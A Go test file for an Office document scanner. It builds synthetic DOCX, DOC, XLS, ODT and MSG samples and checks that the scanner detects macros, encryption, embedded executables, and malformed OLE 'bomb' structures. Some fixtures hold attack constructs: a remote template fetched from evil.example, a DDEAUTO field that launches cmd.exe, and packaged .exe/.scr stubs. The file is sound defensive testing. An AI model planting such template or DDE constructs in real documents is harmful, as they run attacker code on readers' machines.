package archive

import (
	"bytes"
	"context"
	"encoding/binary"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"
)

// stream is one entry of a compound file that a test builds: a storage when it
// has no text and its name ends with a slash. parent is an index, 0 for the root.
type stream struct {
	name   string
	text   string
	parent int
}

// compound builds a file in the compound file format: one sector of FAT, then
// the directory, the small streams' table and content, and the large streams.
func compound(streams ...stream) []byte {
	const sector = 512
	var sectors [][]byte
	fat := make([]uint32, 0, 128)
	add := func(b []byte) uint32 {
		first := uint32(len(sectors))
		for len(b) > 0 {
			s := make([]byte, sector)
			b = b[copy(s, b):]
			sectors = append(sectors, s)
			fat = append(fat, uint32(len(sectors)))
		}
		if uint32(len(sectors)) == first {
			return 0xfffffffe
		}
		fat[len(fat)-1] = 0xfffffffe
		return first
	}
	add(make([]byte, sector)) // the FAT itself
	var mini, small bytes.Buffer
	type place struct{ start, size uint32 }
	places := make([]place, len(streams))
	for i, s := range streams {
		if strings.HasSuffix(s.name, "/") {
			continue
		}
		places[i].size = uint32(len(s.text))
		if len(s.text) >= oleMiniUpTo {
			places[i].start = add([]byte(s.text))
			continue
		}
		places[i].start = uint32(small.Len() / oleMini)
		small.WriteString(s.text)
		small.Write(make([]byte, (oleMini-len(s.text)%oleMini)%oleMini))
		for n := places[i].start + 1; n <= uint32(small.Len()/oleMini); n++ {
			if n == uint32(small.Len()/oleMini) {
				n = 0xfffffffe
			}
			put(&mini, n)
			if n == 0xfffffffe {
				break
			}
		}
	}
	var dir bytes.Buffer
	entry := func(name string, kind byte, left, child, start uint32, size uint32) {
		raw := make([]byte, 64)
		units := utf16.Encode([]rune(name))
		for i, u := range units {
			binary.LittleEndian.PutUint16(raw[2*i:], u)
		}
		put(&dir, string(raw), uint16(2*len(units)+2), kind, byte(1), left, uint32(0xffffffff), child,
			strings.Repeat("\x00", 36), start, size, uint32(0))
	}
	// Those of one storage hang at each other's left.
	next := func(parent, after int) uint32 {
		for i := after; i < len(streams); i++ {
			if streams[i].parent == parent {
				return uint32(i + 1)
			}
		}
		return 0xffffffff
	}
	home := add(small.Bytes())
	entry("Root Entry", oleRoot, 0xffffffff, next(0, 0), home, uint32(small.Len()))
	for i, s := range streams {
		kind, child := byte(oleStream), uint32(0xffffffff)
		if strings.HasSuffix(s.name, "/") {
			kind, child = oleStorage, next(i+1, 0)
		}
		entry(strings.TrimSuffix(s.name, "/"), kind, next(s.parent, i+1), child, places[i].start, places[i].size)
	}
	dirAt, miniAt := add(dir.Bytes()), add(mini.Bytes())
	fat[0] = 0xfffffffd
	for i, n := range fat {
		binary.LittleEndian.PutUint32(sectors[0][4*i:], n)
	}
	var h bytes.Buffer
	put(&h, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", strings.Repeat("\x00", 16), uint16(0x3e), uint16(3), uint16(0xfffe), uint16(9), uint16(6),
		strings.Repeat("\x00", 6), uint32(0), uint32(1), dirAt, uint32(0), uint32(4096), miniAt, uint32(1), uint32(0xfffffffe), uint32(0), uint32(0))
	for range 108 {
		put(&h, uint32(0xffffffff))
	}
	return slices.Concat(h.Bytes(), slices.Concat(sectors...))
}

// packaged is what Windows' packager puts into a stream.
func packaged(label, name, command, data string) string {
	var b bytes.Buffer
	put(&b, uint32(0), uint16(2), label, byte(0), name, byte(0), uint32(0x30000), uint32(len(command)+1), command, byte(0), uint32(len(data)), data)
	return b.String()
}

func biff(records ...string) string {
	var b bytes.Buffer
	put(&b, uint16(0x809), uint16(4), uint32(0))
	for _, r := range records {
		b.WriteString(r)
	}
	return b.String()
}

const contentTypes = `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>`

func docx(t testing.TB, more ...file) []byte {
	return zipped(t, append([]file{
		{"[Content_Types].xml", contentTypes},
		{"_rels/.rels", `<?xml version="1.0"?><Relationships/>`},
		{"word/document.xml", `<?xml version="1.0"?><w:document>ADDED text</w:document>`},
		{"word/media/image1.png", "\x89PNG\r\n\x1a\n"},
	}, more...)...)
}

// TestOffice: macros, locks, what is loaded from elsewhere, and what is embedded.
func TestOffice(t *testing.T) {
	vba := string(compound(stream{"VBA/", "", 0}, stream{"dir", "x", 1}))
	exe := "MZ\x90\x00" + strings.Repeat("\x00", 100)
	tests := []struct {
		name      string
		bytes     []byte
		macros    bool
		encrypted bool
		external  string
		embedded  []string // names
		program   string   // of the first one
		ambiguous string
	}{
		{name: "plain.docx", bytes: docx(t)},
		{name: "macros.docm", bytes: docx(t, file{"word/vbaProject.bin", vba}), macros: true},
		{name: "renamed.docx", bytes: docx(t, file{"word/vbaProject.bin", vba}), macros: true, ambiguous: "macros in a document"},
		{name: "macros under another name.docm", bytes: docx(t, file{"word/a.bin", vba}), macros: true, embedded: []string{"word/a.bin"}},
		{name: "Excel 4.xlsm", bytes: docx(t, file{"xl/macrosheets/sheet1.xml", "<a/>"}), macros: true},
		{name: "template.docx", bytes: docx(t, file{"word/_rels/settings.xml.rels", `<Relationships><Relationship Id="1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`}), external: "evil.example"},
		{name: "link.docx", bytes: docx(t, file{"word/_rels/document.xml.rels", `<Relationships><Relationship Id="1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://good.example/" TargetMode="External"/></Relationships>`})},
		{name: "DDE.docx", bytes: docx(t, file{"word/footer.xml", `<w:instrText xml:space="preserve"> DD</w:instrText><w:instrText>EAUTO c:\\windows\\cmd.exe</w:instrText>`}), external: "DDE"},
		{name: "program in a package.docx", bytes: docx(t, file{"word/embeddings/oleObject1.bin", string(compound(stream{"\x01Ole10Native", packaged("a", `C:\x\run.exe`, `C:\x\run.exe`, exe), 0}))}), embedded: []string{"a", "run.exe"}, program: "dos"},
		{name: "program beside.docx", bytes: docx(t, file{"evil.exe", exe}), embedded: []string{"evil.exe"}, program: "dos"},
		{name: "sheet in a text.docx", bytes: docx(t, file{"word/embeddings/a.xlsm", string(docx(t, file{"xl/vbaProject.bin", vba}))}), macros: true, embedded: []string{"word/embeddings/a.xlsm"}, ambiguous: "macros in a document"},
		{name: "text.odt", bytes: zipped(t, file{"mimetype", "application/vnd.oasis.opendocument.text"}, file{"content.xml", "<a/>"}, file{"META-INF/manifest.xml", "<manifest/>"})},
		{name: "basic.odt", bytes: zipped(t, file{"mimetype", "application/vnd.oasis.opendocument.text"}, file{"Basic/Standard/Module1.xml", "<a/>"}, file{"META-INF/manifest.xml", "<manifest/>"}), macros: true},
		{name: "locked.odt", bytes: zipped(t, file{"mimetype", "application/vnd.oasis.opendocument.text"}, file{"META-INF/manifest.xml", "<manifest:encryption-data/>"}), encrypted: true},

		{name: "plain.doc", bytes: compound(stream{"WordDocument", strings.Repeat("\x00", 5000), 0})},
		{name: "macros.doc", bytes: compound(stream{"WordDocument", strings.Repeat("\x00", 64), 0}, stream{"Macros/", "", 0}, stream{"VBA/", "", 2}, stream{"_VBA_PROJECT", "x", 3}), macros: true},
		{name: "locked.doc", bytes: compound(stream{"WordDocument", "\xec\xa5\xc1\x00\x00\x00\x00\x00\x00\x00\x00\x01" + strings.Repeat("\x00", 64), 0}), encrypted: true},
		{name: "locked.xlsx", bytes: compound(stream{"EncryptionInfo", "x", 0}, stream{"EncryptedPackage", strings.Repeat("x", 5000), 0}), encrypted: true},
		{name: "Excel 4.xls", bytes: compound(stream{"Workbook", biff("\x85\x00\x08\x00\x00\x00\x00\x00\x00\x01\x01A"), 0}), macros: true},
		{name: "locked.xls", bytes: compound(stream{"Workbook", biff("\x2f\x00\x02\x00\x00\x00"), 0}), encrypted: true},
		{name: "program.doc", bytes: compound(stream{"ObjectPool/", "", 0}, stream{"_1/", "", 1}, stream{"\x01Ole10Native", packaged("a.txt", "a.txt", `C:\run.scr`, exe+strings.Repeat("x", 6000)), 2}), embedded: []string{"a.txt", "run.scr"}, program: "dos"},
		{name: "saved.msg", bytes: compound(stream{"__attach_version1.0_#00000000/", "", 0}, stream{"__substg1.0_3707001F", "r\x00u\x00n\x00.\x00e\x00x\x00e\x00", 1}, stream{"__substg1.0_37010102", exe, 1}), embedded: []string{"run.exe"}, program: "dos"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rep, err := Office(context.Background(), tt.name, bytes.NewReader(tt.bytes), int64(len(tt.bytes)), NewBudget(DefaultLimits()))
			if err != nil || len(rep.Unseen) > 0 {
				t.Fatalf("error %v, unseen %q", err, rep.Unseen)
			}
			if rep.Macros != tt.macros || rep.Encrypted != tt.encrypted {
				t.Errorf("macros %v, encrypted %v; want %v, %v", rep.Macros, rep.Encrypted, tt.macros, tt.encrypted)
			}
			if tt.external == "" && len(rep.External) > 0 || tt.external != "" && !says(rep.External, tt.external) {
				t.Errorf("external = %q", rep.External)
			}
			if tt.ambiguous == "" && len(rep.Ambiguous) > 0 || tt.ambiguous != "" && !says(rep.Ambiguous, tt.ambiguous) {
				t.Errorf("ambiguous = %q", rep.Ambiguous)
			}
			var names []string
			for _, e := range rep.Embedded {
				for _, n := range e.Names {
					if !slices.Contains(names, n) {
						names = append(names, n)
					}
				}
			}
			if !slices.Equal(names, tt.embedded) {
				t.Errorf("embedded = %q, want %q", names, tt.embedded)
			}
			if tt.program != "" && rep.Embedded[0].Type.Program != tt.program {
				t.Errorf("type = %+v, want program %q", rep.Embedded[0].Type, tt.program)
			}
		})
	}
}

// TestOLEBombs: rings, and many streams that are the same sectors.
func TestOLEBombs(t *testing.T) {
	ring := compound(stream{"WordDocument", strings.Repeat("\x00", 5000), 0})
	for i := 512 + 4; i < 512+4*8; i += 4 { // each sector follows itself
		binary.LittleEndian.PutUint32(ring[i:], uint32(i-512)/4)
	}
	deep := []stream{{"s/", "", 0}}
	for i := range 400 {
		deep = append(deep, stream{"s/", "", i + 1})
	}
	same := compound(stream{"\x01Ole10Native", packaged("a", "b", "c", strings.Repeat("x", 40000)), 0})
	for name, b := range map[string][]byte{"ring": ring, "deep": compound(deep...), "same": same, "cut": same[:2000], "head only": same[:512]} {
		t.Run(name, func(t *testing.T) {
			if _, err := Office(context.Background(), "x", bytes.NewReader(b), int64(len(b)), NewBudget(DefaultLimits())); err != nil {
				t.Error(err)
			}
		})
	}
}
